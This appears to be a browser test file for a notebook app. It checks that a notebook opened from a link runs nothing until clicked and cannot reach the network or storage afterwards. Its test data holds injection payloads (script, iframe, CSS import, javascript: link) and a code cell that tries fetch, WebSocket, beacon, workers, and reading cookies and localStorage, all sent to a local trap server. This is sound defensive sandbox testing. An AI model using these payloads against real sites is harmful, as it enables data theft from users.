import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { encodeLink } from "@tilebook/notebook";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, test } from "vitest";
import { launchChromium, openNotebook, shoot } from "./rig/chromium.ts";
import { cellsOf, until } from "./rig/door.ts";

declare const window: { readonly tilebook?: unknown };
declare const localStorage: { setItem(key: string, value: string): void };

/** A server that counts what reaches it. Nothing may. */
async function startTrap(): Promise<{
  readonly url: string;
  readonly hits: string[];
  readonly server: Server;
}> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(request.url ?? "");
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "image/png" }).end("x");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits, server };
}

/** Tries every door it knows, in code and in prose, and says what it got. */
function hostile(trap: string): string {
  return `# Hostile

<img src="${trap}/prose-img"> ![x](${trap}/prose-md) <script>fetch("${trap}/prose-script")</script>
<iframe src="${trap}/prose-frame"></iframe> <style>@import "${trap}/prose-css";</style>
<a id="root" name="tilebook" href="javascript:fetch('${trap}/prose-link')">click</a>

\`\`\`ts {#attack run=auto}
const got: string[] = [];
const attempt = async (name: string, work: () => unknown) => {
  try {
    const value = await work();
    if (value !== undefined && value !== null) got.push(name);
  } catch {}
};
const g = globalThis as any;
await attempt("fetch", () => g.fetch("${trap}/fetch"));
await attempt("import", () => g.Function("return import('${trap}/import.js')")());
await attempt("xhr", () => { const x = new g.XMLHttpRequest(); x.open("GET", "${trap}/xhr"); x.send(); return x; });
await attempt("socket", () => new g.WebSocket("${trap}/ws".replace("http", "ws")));
await attempt("events", () => new g.EventSource("${trap}/events"));
await attempt("beacon", () => g.navigator.sendBeacon("${trap}/beacon"));
await attempt("worker", () => new g.Worker("${trap}/worker.js"));
await attempt("scripts", () => g.importScripts("${trap}/scripts.js"));
await attempt("indexedDB", () => g.indexedDB.open("x"));
await attempt("caches", () => g.caches.open("x"));
await attempt("localStorage", () => g.localStorage.getItem("canary"));
await attempt("cookie", () => g.document.cookie);
await attempt("document", () => g.document.body);
await attempt("parent", () => g.parent.document);
await attempt("top", () => g.top.location.href);
await attempt("opfs", () => g.navigator.storage.getDirectory());
await attempt("channel", () => new g.BroadcastChannel("x"));
await attempt("gpu", () => g.navigator.gpu.requestAdapter());
await attempt("constructor fetch", () => g.Function("return fetch('${trap}/function')")());
got
\`\`\`
`;
}

describe("a notebook opened from a link", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchChromium();
  });
  afterAll(() => browser.close());

  test("[L1] runs nothing before a click, and reaches nothing after it", async () => {
    const trap = await startTrap();
    const { page, close } = await openNotebook(browser);
    await page.evaluate(() => localStorage.setItem("canary", "bird"));
    const link = await encodeLink(hostile(trap.url));
    await page.goto("about:blank");
    await page.goto(inject("site") + link);
    await until(page, () => window.tilebook !== undefined, 30);
    await page.getByText("Hostile").first().waitFor();
    await new Promise((resolve) => setTimeout(resolve, 2000));
    const before = (await cellsOf(page)).filter((cell) => cell.kind !== "prose");
    expect(before.map(({ status, fault }) => [status, fault])).toEqual([["never", undefined]]);
    await shoot(page, "link-before-click");
    expect(await page.locator(".prose :is(iframe, script, style, a, [src])").count()).toBe(0);

    await page.getByRole("button", { name: "Run", exact: true }).click();
    for (let tries = 0; tries < 200; tries++) {
      const attack = (await cellsOf(page)).find((cell) => cell.id === "attack");
      if (attack?.status === "fresh" || attack?.status === "failed") break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    const attack = (await cellsOf(page)).find((cell) => cell.id === "attack");
    expect(attack?.fault).toBeUndefined();
    expect(attack?.status).toBe("fresh");
    expect(attack?.outputs[0]).toMatchObject({ kind: "value", value: { kind: "list", size: 0 } });
    await shoot(page, "link-after-click");
    expect(trap.hits).toEqual([]);
    // The trap works: the page's own context reaches it when nothing is in the way.
    const control = await browser.newPage();
    await control.goto(`${trap.url}/control`);
    expect(trap.hits[0]).toBe("/control");
    trap.server.close();
    await close();
  });

  test("[L2] a broken link says what is wrong with it and opens nothing", async () => {
    const { page, close } = await openNotebook(browser, { path: "#n1=%%%%" });
    await page.getByText("This notebook cannot be opened").waitFor();
    expect(await page.getByText("link/not-base64url").count()).toBe(1);
    expect(await cellsOf(page)).toEqual([]);
    await shoot(page, "link-broken");
    await close();
  });
});
